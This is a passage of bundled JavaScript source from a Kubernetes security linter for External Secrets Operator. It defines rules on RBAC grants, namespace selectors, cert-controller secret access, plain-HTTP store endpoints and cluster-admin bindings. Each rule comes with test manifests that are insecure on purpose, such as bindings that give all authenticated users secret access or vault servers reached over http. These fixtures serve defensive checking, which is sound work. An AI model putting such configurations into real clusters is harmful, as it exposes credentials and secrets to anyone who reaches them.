  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: "system:authenticated" } # finding[medium]: can read ExternalSecrets, SecretStores in all namespaces through the built-in role view
`
  ],
  good: [
    `
# A key that everybody may see, rights on other things, and subjects that are somebody.
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec: { secretStoreRef: { name: vault }, target: { name: db } }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: public, namespace: shop }
rules:
  - { apiGroups: [""], resources: [secrets], resourceNames: [public-key], verbs: [get] }
  - { apiGroups: [""], resources: [configmaps], verbs: [get, list] }
  - { apiGroups: [kubernetes-client.io], resources: [externalsecrets], verbs: [create] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: public, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: Role, name: public }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: "system:authenticated" }
  - { kind: ServiceAccount, name: default }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: developers, namespace: shop }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit }
subjects:
  - { apiGroup: rbac.authorization.k8s.io, kind: Group, name: developers }
  - { kind: ServiceAccount, name: builder }
`,
    `
# Nothing here is External Secrets Operator.
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: jobs }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects:
  - { kind: ServiceAccount, name: default, namespace: jobs }
`
  ],
  *check(binding, world) {
    const grants = world.rbac.grantsIn(binding).filter(({ subject }) => breadthOf(subject) !== void 0);
    if (grants.length === 0) return;
    const rights = rightsBy(binding, world.rbac);
    const given = givenBy(rights, holdsEso(world));
    if (!given) return;
    const role = boundRoleName(binding, world.rbac);
    for (const { subject, namespace, path } of grants)
      yield {
        path,
        severity: given.isOnlyReading ? "medium" : severityOf(subject, namespace),
        message: `${nameOfSubject(subject)} (${whoIsThat(subject)}) can ${given.says} in ${namespace === void 0 ? "all namespaces" : `namespace ${namespace}`} through ${role}`,
        related: rulesBehind(given.rights, "a rule that gives it")
      };
  },
  fix: (fault) => unsafe(NEEDED, fault.path[0] === "subjects" ? withoutSubject(fault) : void 0)
});
var NEEDED = "Does anything work by the rights that everybody gets here? It needs a binding of its own first.";
function givenBy(rights, hasEso) {
  const secrets = hasEso ? verbsOfAnyName(rights, SECRET_ACCESS) : [];
  const counted = rights.filter(({ rule: rule2 }) => hasEso || !rule2.apiGroups.includes("*"));
  const writes2 = kindsFor(counted, ["create", "update", "patch", "delete"]);
  const reads = writes2.length + secrets.length > 0 ? [] : kindsFor(counted, ["get", "list", "watch"]);
  const says2 = [
    ...secrets.length > 0 ? [`${secrets.join(", ")} Secrets`] : [],
    ...writes2.length > 0 ? [`write ${writes2.join(", ")}`] : [],
    ...reads.length > 0 ? [`read ${reads.join(", ")}`] : []
  ].join(" and ");
  const used = rights.filter(
    (right) => kindsFor([right], ANY).length > 0 || verbsOfAnyName([right], SECRET_ACCESS).length > 0
  );
  return says2 === "" ? void 0 : { says: says2, isOnlyReading: reads.length > 0, rights: used };
}
var ANY = ["create", "update", "patch", "delete", "get", "list", "watch"];
var kindsFor = (rights, verbs) => [
  ...new Set(
    ESO_RESOURCES.filter((target) => {
      const access = { group: groupOfResource(target), resource: target.resource, verbs };
      return rights.some(({ rule: rule2 }) => verbsGiven(rule2, access).length > 0);
    }).map(({ plural }) => plural)
  )
];
var severityOf = (subject, namespace) => breadthOf(subject) === "one namespace" && namespace !== void 0 ? "high" : "critical";
function whoIsThat(subject) {
  switch (breadthOf(subject)) {
    case "anybody":
      return "everybody who reaches the API server, without a login";
    case "everybody":
      return "everybody who can log in";
    case "every ServiceAccount":
      return "every pod of the cluster";
    default:
      return subject.kind === "Group" ? "every pod of one namespace" : "every pod of its namespace that names no other";
  }
}

// src/rules/catch-all-cluster-external-secret.ts
var catch_all_cluster_external_secret_default = defineRule({
  id: "catch-all-cluster-external-secret",
  title: "A ClusterExternalSecret or ClusterPushSecret works in every namespace",
  severities: ["high", "medium"],
  kinds: [`${ESO_GROUP}/ClusterExternalSecret`, `${ESO_GROUP}/ClusterPushSecret`],
  why: "A ClusterExternalSecret for every namespace puts the same secret where nobody needs it: whoever may read Secrets in any one namespace, or takes over one pod there, has it. A ClusterPushSecret for every namespace sends Secrets of all of them to one provider.",
  remedy: "Choose the namespaces that need it by name (`matchLabels: { kubernetes.io/metadata.name: … }`) or by a label that only operators set. Selectors are alternatives, so that a single empty one takes all; ask the operators of the cluster which label to use.",
  references: [
    "https://external-secrets.io/latest/api/clusterexternalsecret/",
    "https://external-secrets.io/latest/api/clusterpushsecret/"
  ],
  guide: ["NI2", "TM3"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: registry }
spec:
  namespaceSelectors:
    - matchLabels: { team: shop }
    - {} # finding: this selector takes every namespace, and each gets the secret
  externalSecretSpec:
    secretStoreRef: { kind: ClusterSecretStore, name: vault }
    dataFrom: [{ extract: { key: registry } }]
---
apiVersion: external-secrets.io/v1beta1
kind: ClusterExternalSecret
metadata: { name: old-field }
spec:
  namespaceSelector: {} # finding: this selector takes every namespace
  externalSecretSpec:
    secretStoreRef: { kind: ClusterSecretStore, name: vault }
    dataFrom: [{ extract: { key: registry } }]
---
apiVersion: external-secrets.io/v1alpha1
kind: ClusterPushSecret
metadata: { name: backup }
spec:
  namespaceSelectors:
    - matchLabels: {} # finding: takes every namespace, and Secrets of each are pushed
  pushSecretSpec:
    secretStoreRefs: [{ kind: ClusterSecretStore, name: vault }]
    selector: { secret: { name: database } }
`,
    `
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: excluding }
spec:
  namespaceSelectors:
    - matchExpressions: # finding[medium]: every namespace that it does not exclude, also new ones
        - { key: kubernetes.io/metadata.name, operator: NotIn, values: [kube-system] }
  externalSecretSpec:
    secretStoreRef: { kind: ClusterSecretStore, name: vault }
    dataFrom: [{ extract: { key: registry } }]
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: chosen }
spec:
  namespaces: [shop]
  namespaceSelectors:
    - matchLabels: { registry: "yes" }
    - matchExpressions: [{ key: team, operator: In, values: [shop, web] }]
---
# With no selector it works nowhere, and a selector of null takes nothing.
apiVersion: external-secrets.io/v1
kind: ClusterExternalSecret
metadata: { name: nowhere }
spec:
  namespaceSelector:
  namespaceSelectors: [~]
---
# What is filled in later is unknown.
apiVersion: external-secrets.io/v1alpha1
kind: ClusterPushSecret
metadata: { name: later }
spec:
  namespaceSelectors: ["\${SELECTOR}", { matchLabels: { team: "\${TEAM}" } }]
`
  ],
  *check(manifest) {
    for (const path of selectorPaths(manifest)) {
      const reach = reachOfSelector(manifest.get(...path));
      if (reach === "some") continue;
      const effect = manifest.kind === "ClusterPushSecret" ? "Secrets of each are pushed" : "each gets the secret";
      yield reach === "every" ? { path, message: `this selector takes every namespace, and ${effect}` } : {
        path,
        severity: "medium",
        message: `this selector takes every namespace that it does not exclude, also new ones, and ${effect}`
      };
    }
  }
});
var selectorPaths = (manifest) => [
  ...manifest.kind === "ClusterExternalSecret" ? [["spec", "namespaceSelector"]] : [],
  ...asList(manifest.get("spec", "namespaceSelectors")).map((_, i) => ["spec", "namespaceSelectors", i])
];

// src/model/eso/store-users.ts
var usersOf = (store, world) => (users(world).get(store) ?? []).flat();
var sureUsersOf = (store, world) => usersOf(store, world).filter((reference) => leadsTo(reference, store));
var storesUsedBy = (request, world) => [
  ...new Set(
    referencesOf(request).stores.flatMap(
      (reference) => storesOf(reference, world).filter((store) => leadsTo(reference, store))
    )
  )
];
var leadsTo = ({ kind, namespace, manifest }, store) => kind === "ClusterSecretStore" || namespace === store.namespace && (namespace !== void 0 || manifest.file === store.file && manifest.release?.name === store.release?.name);
var users = remember((world) => {
  const references = [...FETCHING_KINDS, ...PUSHING_KINDS].flatMap((kind) => world.of(kind)).flatMap((manifest) => referencesOf(manifest).stores);
  const pairs = [...Map.groupBy(references, sayingOf).values()].flatMap(
    (group) => group[0] ? storesOf(group[0], world).map((store) => ({ store, group })) : []
  );
  const groups = Map.groupBy(pairs, ({ store }) => store);
  return new Map([...groups].map(([store, found]) => [store, found.map(({ group }) => group)]));
});
var sayingOf = ({ kind, name, selector, namespace, manifest: { groupKind } }) => JSON.stringify([PUSHING_KINDS.includes(groupKind), kind, name, selector, kind === "SecretStore" ? namespace : ""]);

// src/providers/named.ts
import { dirname } from "node:path/posix";
function credentialsNamedBy(manifest) {
  const connected = connectedOf(manifest);
  return connected ? credentialFieldsIn(connected).flatMap(({ field, what }) => credentialsAt(field, what)) : [];
  function credentialsAt(field, what) {
    return connected ? namedAt(manifest, connected, field).map(({ key, ...named2 }) => ({ ...named2, key, what, connected })) : [];
  }
}
function credentialFieldsIn({ known, config }) {
  const stored = (known?.stored ?? []).filter((credential) => isRead(credential, config)).flatMap(({ secrets, what }) => secrets.map((field) => ({ field, what })));
  const keys = (known?.clientCertificates ?? []).flatMap(
    ({ key }) => key ? [{ field: key, what: "private key" }] : []
  );
  const isNew = ({ field }) => stored.every((credential) => credential.field !== field);
  return [...stored, ...keys.filter(isNew)];
}
function accountsNamedBy(manifest) {
  const connected = connectedOf(manifest);
  if (!connected) return [];
  return accountFields(connected).flatMap(
    ({ field, annotation }) => annotation && !(annotation.orField && isSet(connected.config, annotation.orField)) ? namedAt(manifest, connected, field).map((named2) => ({ ...named2, annotation, connected })) : []
  );
}
function tokenAccountsNamedBy(manifest) {
  const connected = connectedOf(manifest);
  if (!connected) return [];
  return accountFields(connected).flatMap(
    ({ field, needsAudience = false }) => namedAt(manifest, connected, field).map((named2) => ({
      ...named2,
      isForApiServer: needsAudience && isApiServerAmong(manifest.get(...named2.path, "audiences"))
    }))
  );
}
var isApiServerAmong = (audiences) => {
  const list = audiences ?? [];
  return Array.isArray(list) && (list.length === 0 || list.some(isApiServer));
};
var API_SERVER = /^(?:(?:https:\/\/)?kubernetes(?:\.default(?:\.svc(?:\.cluster\.local)?)?)?\/?|k3s|rke2|https:\/\/[^/]*:6443\/?)$/;
var isApiServer = (audience) => typeof audience === "string" && API_SERVER.test(audience);
var accountFields = ({ known }) => known?.serviceAccounts ?? [];
function namedAt(manifest, { path, config }, field) {
  return placesOf(config, field).flatMap((place) => {
    const reference = asMapping(place.value);
    const name = asText(reference?.name);
    const namespace = manifest.kind.startsWith("Cluster") ? asText(reference?.namespace) || void 0 : manifest.namespace;
    if (!name || isPlaceholder(name) || isPlaceholder(namespace)) return [];
    const key = isPlaceholder(reference?.key) ? void 0 : asText(reference?.key) || void 0;
    const isAnywhere = manifest.kind.startsWith("Cluster") && namespace === void 0;
    return { manifest, path: [...path, ...place.path], name, namespace, isAnywhere, key };
  });
}
function isNamed({ name, namespace, isAnywhere, manifest }, object) {
  if (object.name !== name) return false;
  if (isAnywhere || namespace !== void 0 && object.namespace !== void 0)
    return isAnywhere || namespace === object.namespace;
  return dirname(object.file) === dirname(manifest.file) && object.release?.name === manifest.release?.name;
}

// src/check/store-accounts.ts
var storeSigningInAs = ({ namespace, name }, world) => byAccount(world).get(`${namespace ?? ""}/${name}`);
var byAccount = remember((world) => {
  const uses = STORE_KINDS.flatMap((kind) => world.of(kind)).flatMap(
    (store) => accountsOf(store, world).flatMap(
      ({ name, namespaces }) => namespaces.map((namespace) => [`${namespace}/${name}`, store])
    )
  );
  return new Map(uses.reverse());
});
var accountsOf = (store, world) => tokenAccountsNamedBy(store).map((named2) => ({ ...named2, namespaces: namespacesOf(named2, world) }));
var namespacesOf = ({ manifest, namespace, isAnywhere }, world) => isAnywhere ? userNamespaces(manifest, world) : namespace === void 0 ? [] : [namespace];
function userNamespaces(store, world) {
  const users2 = new Set(usersOf(store, world).map(({ manifest }) => manifest));
  return [...new Set([...users2].flatMap((user) => targetNamespaces(user, world).map(({ name }) => name)))];
}
var tokenAccounts = (world) => [
  ...new Set(
    STORE_KINDS.flatMap((kind) => world.of(kind)).flatMap((store) => accountsOf(store, world).map(({ name }) => name))
  )
].sort();

// src/check/words.ts
var joined = (items, last = "and") => items.length < 2 ? items.join("") : `${items.slice(0, -1).join(", ")} ${last} ${items.at(-1)}`;
var shortened = (items, most) => items.length > most ? [...items.slice(0, most), `${items.length - most} more`] : [...items];

// src/check/named-conditions.ts
var NAMED = 6;
function namedConditions({ manifest, path, world }) {
  const users2 = manifest ? userNamespaces(manifest, world).filter((name) => !isPlaceholder(name)) : [];
  if (!manifest || users2.length === 0) return void 0;
  const conditions = asList(manifest.get("spec", "conditions"));
  const at2 = path[2];
  const names = [.../* @__PURE__ */ new Set([...asTexts(asMapping(conditions[Number(at2)])?.namespaces), ...users2])].sort();
  const others = at2 === void 0 ? [] : conditions;
  const wanted = others.length === 0 ? [{ namespaces: names }] : others.map((condition, i) => i === at2 ? { namespaces: names } : condition);
  const who = joined(shortened(names, NAMED));
  return unsafe(
    `Do only the namespaces ${who} use this store? What is not in this set loses it.`,
    setting(["spec", "conditions"], wanted)
  );
}

// src/rules/catch-all-store-condition.ts
var catch_all_store_condition_default = defineRule({
  id: "catch-all-store-condition",
  title: "A condition of a ClusterSecretStore takes every namespace",
  severities: ["high", "medium"],
  kinds: [`${ESO_GROUP}/ClusterSecretStore`],
  needs: ["stores"],
  why: "The store looks restricted and is not. Conditions are alternatives, also those in one entry: as soon as one of them takes every namespace the others mean nothing, and whoever may create an ExternalSecret anywhere reads what the credential of the store reads. A condition that only excludes lets in each new namespace by itself.",
  remedy: "Replace the condition by the namespaces that need the store (`namespaces`), or by a selector on a label that only operators set. Leave `namespaceSelector` out where you mean none: an empty one takes everything.",
  references: [
    "https://external-secrets.io/latest/api/clustersecretstore/",
    "https://external-secrets.io/latest/guides/multi-tenancy/"
  ],
  guide: ["NI2", "TM6"],
  supersedes: ["unanchored-namespace-regex"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: empty-selector }
spec:
  conditions:
    - namespaceSelector: {} # finding: this selector takes every namespace
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: any-name }
spec:
  conditions:
    - namespaceRegexes:
        - ".*" # finding: the expression ".*" takes every sort of name, also default
        - "" # finding: the expression "" takes every sort of name
        - ^[a-z0-9]([-a-z0-9]*[a-z0-9])?$ # finding: takes every sort of name
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: db, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: empty-selector }
  dataFrom: [{ extract: { key: shop/db } }]

---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: cache, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: any-name }
  dataFrom: [{ extract: { key: shop/cache } }]
`,
    `
# Alternatives are ORed, also those of one entry.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: beside }
spec:
  conditions:
    - namespaces: [shop]
      namespaceSelector: # finding: takes every namespace, so the other conditions hold nobody back
        matchLabels: {}
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata: { name: queue, namespace: shop }
spec:
  secretStoreRef: { kind: ClusterSecretStore, name: beside }
  dataFrom: [{ extract: { key: shop/queue } }]
`,
    `
# Each namespace has a name, and a new one is none of those that are excluded.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: named }
spec:
  conditions:
    - namespaceSelector: # finding: this selector takes every namespace
        matchExpressions: [{ key: kubernetes.io/metadata.name, operator: Exists }]
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: excluding }
spec:
  conditions:
    - namespaceSelector: # finding[medium]: every namespace that it does not exclude, also new ones
        matchExpressions: [{ key: kubernetes.io/metadata.name, operator: NotIn, values: [kube-system] }]
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: tight }
spec:
  conditions:
    - namespaces: [shop]
    - namespaceSelector: { matchLabels: { team: shop } }
    - namespaceRegexes: ["^shop-.*$"]
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
---
# None of these takes anybody.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: nobody }
spec:
  conditions:
    - {}
    - namespaceSelector:
    - namespaces: ["*"]
    - namespaceRegexes: ["(.*"]
---
# What is filled in later is unknown.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: later }
spec:
  conditions:
    - namespaceSelector: \${SELECTOR}
      namespaceRegexes: ["\${EXPRESSION}", "<EXPRESSION>"]
---
# The operator ignores the conditions of a SecretStore.
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: own, namespace: shop }
spec:
  conditions:
    - namespaceSelector: {}
`
  ],
  *check(store) {
    const alternatives2 = alternativesOf(store);
    for (const alternative of alternatives2) {
      const reach = reachOf(alternative);
      if (reach === "every-other")
        yield {
          path: alternative.path,
          severity: "medium",
          message: "this selector takes every namespace that it does not exclude, also new ones"
        };
      if (reach !== "every") continue;
      const isTightBeside = alternatives2.some((other) => reachOf(other) === "some");
      const rest = isTightBeside ? ", so the other conditions hold nobody back" : "";
      yield { path: alternative.path, message: `${nameOf2(alternative)}${rest}` };
    }
  },
  fix: (fault) => namedConditions(fault)
});
var nameOf2 = ({ by, value }) => by === "regex" ? `the expression "${value}" takes every sort of name, also default` : "this selector takes every namespace";

// src/check/certificate-issuer.ts
var ISSUERS = ["cert-manager.io/ClusterIssuer", "cert-manager.io/Issuer"];
function fromCertManager(fault) {
  const { manifest, world } = fault;
  const [issuer, ...others] = issuersFor(manifest?.release?.namespace, world);
  if (!issuer || others.length > 0) return void 0;
  const issuerRef = "webhook.certManager.cert.issuerRef";
  return unsafe(
    `Does cert-manager run in this cluster before the operator does, and may its ${issuer.kind} ${issuer.name} sign the webhook's certificate?`,
    chartValues(fault, {
      "webhook.certManager.enabled": true,
      [`${issuerRef}.kind`]: issuer.kind,
      [`${issuerRef}.name`]: issuer.name
    })
  );
}
var issuersFor = (namespace, world) => ISSUERS.flatMap((kind) => world.of(kind)).filter(
  (issuer) => (issuer.kind === "ClusterIssuer" || issuer.namespace === namespace) && !isPlaceholder(issuer.name) && ["ca", "selfSigned", "vault"].some((field) => asMapping(issuer.get("spec", field)))
);

// src/check/grants.ts
var NAMED2 = 6;
function holders(grants) {
  const bySubject = Map.groupBy(grants, ({ subject }) => nameOfSubject(subject));
  return shortened(
    [...bySubject].map(([name, held]) => `${name} (in ${scopeOf(held)})`),
    NAMED2
  ).join(", ");
}
function scopeOf(grants) {
  const namespaces = [...new Set(grants.map(({ namespace }) => namespace))];
  if (namespaces.includes(void 0)) return "all namespaces";
  const known = namespaces.filter(Boolean);
  return known.length > 0 ? `namespace ${shortened(
    known.flatMap((namespace) => namespace ?? []),
    NAMED2
  ).join(", ")}` : "the namespace of its binding";
}
function bindingsOf(grants) {
  const byBinding = Map.groupBy(grants, ({ binding }) => binding);
  return [...byBinding].map(([manifest, held]) => ({
    manifest,
    path: ["subjects"],
    message: `bound here to ${shortened([...new Set(held.map(({ subject }) => nameOfSubject(subject)))], NAMED2).join(", ")}`
  }));
}

// src/rules/cert-controller-reads-all-secrets.ts
var cert_controller_reads_all_secrets_default = defineRule({
  id: "cert-controller-reads-all-secrets",
  title: "The cert-controller reads the Secrets of every namespace",
  severities: ["high"],
  kinds: ["rbac.authorization.k8s.io/ClusterRole"],
  why: "The cert-controller looks after one Secret, the certificate of the webhook, and may read all of the cluster. Every chart version renders it so, also with `scopedRBAC: true`: whoever takes over its pod holds every credential.",
  remedy: "Let cert-manager make the certificate (`webhook.certManager.enabled: true`), which renders no cert-controller at all; or set `certController.create: false` and bring the certificate yourself.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/",
    "https://github.com/advisories/GHSA-qwgc-rr35-h4x9"
  ],
  guide: ["RM6", "TM1"],
  supersedes: ["cluster-wide-secret-access"],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso-certs, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: certs
      containers:
        - name: certs
          image: registry.example.com/external-secrets:v2.9.0
          args: [certcontroller, --secret-name=eso-webhook]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-certs }
rules:
  - apiGroups: [""]
    resources: [endpoints]
    verbs: [get, list, watch]
  - apiGroups: [""]
    resources: [secrets] # finding: ServiceAccount eso/certs of the cert-controller can get, list, watch Secrets in all namespaces, and needs one
    verbs: [get, list, watch]
  - apiGroups: [""]
    resources: [secrets]
    resourceNames: [eso-webhook]
    verbs: [update, patch]
  # Writing without reading is left to cluster-wide-secret-access.
  - apiGroups: [""]
    resources: [secrets]
    verbs: [create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-certs }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-certs }
subjects:
  - { kind: ServiceAccount, name: certs, namespace: eso }
---
# cert-manager can make the certificate.
apiVersion: cert-manager.io/v1
kind: ClusterIssuer
metadata: { name: internal }
spec:
  ca: { secretName: internal-ca }
`
  ],
  good: [
    `
# Bound in one namespace only. The name of a role makes nobody a cert-controller.
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso-certs, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: certs
      containers:
        - name: certs
          image: registry.example.com/external-secrets:v2.9.0
          args: [certcontroller]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso-certs }
rules:
  - { apiGroups: [""], resources: [secrets], verbs: [get, list, watch] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: eso-certs, namespace: eso }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso-certs }
subjects:
  - { kind: ServiceAccount, name: certs }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: external-secrets-cert-controller }
rules:
  - { apiGroups: [""], resources: [secrets], verbs: [get, list, watch] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: external-secrets-cert-controller }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: external-secrets-cert-controller }
subjects:
  - { kind: ServiceAccount, name: external-secrets-cert-controller, namespace: other }
`,
    `
# One ServiceAccount for controller and cert-controller: cluster-wide-secret-access says it.
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso-certs, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: eso
      containers:
        - { name: certs, image: "registry.example.com/external-secrets:v2.9.0", args: [certcontroller] }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: eso
      containers:
        - { name: controller, image: "registry.example.com/external-secrets:v2.9.0" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: { name: eso }
rules:
  - { apiGroups: [""], resources: [secrets], verbs: [get, list, watch, create, update] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: eso }
subjects:
  - { kind: ServiceAccount, name: eso, namespace: eso }
`
  ],
  *check(role, world) {
    const grants = world.rbac.grantsOf(role).filter(({ namespace, subject }) => namespace === void 0 && world.eso.isInScope(subject));
    if (grants.length === 0 || !grants.every(({ subject }) => isOnlyCertController(subject, world))) return;
    const subjects = [...new Set(grants.map(({ subject }) => nameOfSubject(subject)))].join(", ");
    for (const rule2 of policyRules(role)) {
      const verbs = verbsGiven(rule2, SECRET_ACCESS);
      if (!verbs.some((verb) => READS2.has(verb)) || rule2.resourceNames.length > 0) continue;
      yield {
        path: resourcePath(rule2, "secrets"),
        message: `${subjects} of the cert-controller can ${verbs.join(", ")} Secrets in all namespaces, and needs one`,
        related: bindingsOf(grants)
      };
    }
  },
  fix: (fault) => fromCertManager(fault)
});
var isOnlyCertController = (subject, { eso }) => eso.isRole(subject, "cert-controller") && !eso.isRole(subject, "controller");
var READS2 = /* @__PURE__ */ new Set(["get", "list", "watch"]);

// src/rules/cleartext-endpoint.ts
var cleartext_endpoint_default = defineRule({
  id: "cleartext-endpoint",
  title: "A store or generator speaks to its service over plain HTTP",
  severities: ["critical", "medium"],
  kinds: CONNECTED_KINDS,
  why: "The credential of the store and every secret it fetches cross the network in clear text: whoever listens on the way, or answers in place of the service, has them.",
  remedy: "Use the `https://` address of the service. For a service inside the cluster give it a certificate (cert-manager can) and name its authority in `caBundle` or `caProvider` where the provider has them.",
  references: [
    "https://external-secrets.io/latest/guides/security-best-practices/",
    "https://external-secrets.io/latest/provider/hashicorp-vault/"
  ],
  guide: ["NS3", "TM4"],
  bad: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: http://vault.example.com:8200 # finding: Vault is spoken to over http at vault.example.com
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: hook }
spec:
  conditions: [{ namespaces: [shop] }]
  provider:
    webhook:
      url: "HTTP://93.184.216.34/{{ .remoteRef.key }}" # finding: at 93.184.216.34
`,
    `
# Inside the cluster fewer can listen.
apiVersion: external-secrets.io/v1
kind: ClusterSecretStore
metadata: { name: connect }
spec:
  conditions: [{ namespaces: [shop] }]
  provider:
    onepassword:
      connectHost: http://onepassword-connect.external-secrets.svc:8080 # finding[medium]: inside the cluster
      vaults: { shop: 1 }
      auth: { secretRef: { connectTokenSecretRef: { name: connect, namespace: eso, key: token } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: short, namespace: vault }
spec:
  provider:
    vault:
      server: http://vault.vault:8200 # finding[medium]: at vault.vault, inside the cluster
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
---
apiVersion: generators.external-secrets.io/v1alpha1
kind: Webhook
metadata: { name: hook, namespace: shop }
spec:
  url: http://10.1.2.3/password # finding[medium]: at 10.1.2.3
  result: { jsonPath: $.password }
`
  ],
  good: [
    `
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: vault, namespace: shop }
spec:
  provider:
    vault:
      server: https://vault.example.com
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: later, namespace: shop }
spec:
  provider:
    vault:
      server: http://\${VAULT_HOST}:8200
      auth: { kubernetes: { mountPath: kubernetes, role: shop, serviceAccountRef: { name: shop } } }
---
apiVersion: external-secrets.io/v1
kind: SecretStore
metadata: { name: fixed, namespace: shop }
spec:
  provider:
    aws: { service: SecretsManager, region: eu-west-1 }
`
  ],
  *check(manifest, world) {
    const connected = connectedOf(manifest);
    if (!connected) return;
    for (const { path, scheme, host, isLocal: isLocal2 } of endpointsOf(manifest, world)) {
      if (scheme !== "http") continue;
      const message = `${titleOf(connected)} is spoken to over http at ${host}`;
      yield isLocal2 ? { path, severity: "medium", message: `${message}, inside the cluster or its private network` } : { path, message };
    }
  },
  fix({ manifest, path, severity }) {
    if (severity !== "critical") return void 0;
    const address = manifest?.get(...path);
    if (typeof address !== "string" || !/^http:/i.test(address)) return void 0;
    return unsafe(SPEAKS_TLS, setting(path, address.replace(/^http:/i, "https:")));
  }
});
var SPEAKS_TLS = "Does this address answer over TLS, on the same port and with a certificate that the operator can verify?";

// src/model/rbac/wildcards.ts
var wildFields = (rule2) => ["resources", "verbs", "apiGroups"].filter((field) => rule2[field].includes("*"));
var wildPath = (rule2, field) => [...rule2.path, field, rule2[field].indexOf("*")];
var isUnlimited = (rule2) => wildFields(rule2).length === 3 && rule2.resourceNames.length === 0;

// src/rules/cluster-admin-binding.ts
var cluster_admin_binding_default = defineRule({
  id: "cluster-admin-binding",
  title: "The operator, or an account that it signs in as, is cluster administrator",
  severities: ["critical", "high"],
  kinds: ["rbac.authorization.k8s.io/ClusterRole", ...BINDING_KINDS],
  why: "Whoever takes over one pod of this ServiceAccount owns the cluster: every Secret, every node, every admission policy.",
  remedy: "Remove the binding, and let the operator chart make the roles (`rbac.create: true`); where they are your own, name the kinds and verbs that the ServiceAccount needs.",
  references: [
    "https://kubernetes.io/docs/concepts/security/rbac-good-practices/#least-privilege",
    "https://external-secrets.io/latest/guides/security-best-practices/"
  ],
  guide: ["RM6", "TM6"],
  supersedes: [
    "broad-subject-binding",
    "cluster-wide-secret-access",
    "human-secret-access",
    "namespace-write-access",
    "operator-namespace-access",
    "unrestricted-token-creation",
    "webhook-configuration-write-access",
    "wildcard-permissions"
  ],
  bad: [
    `
apiVersion: apps/v1
kind: Deployment
metadata: { name: eso, namespace: eso }
spec:
  template:
    spec:
      serviceAccountName: controller
      containers:
        - { name: eso, image: "registry.example.com/external-secrets:v2.9.0" }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: { name: eso-admin }
roleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }
subjects:
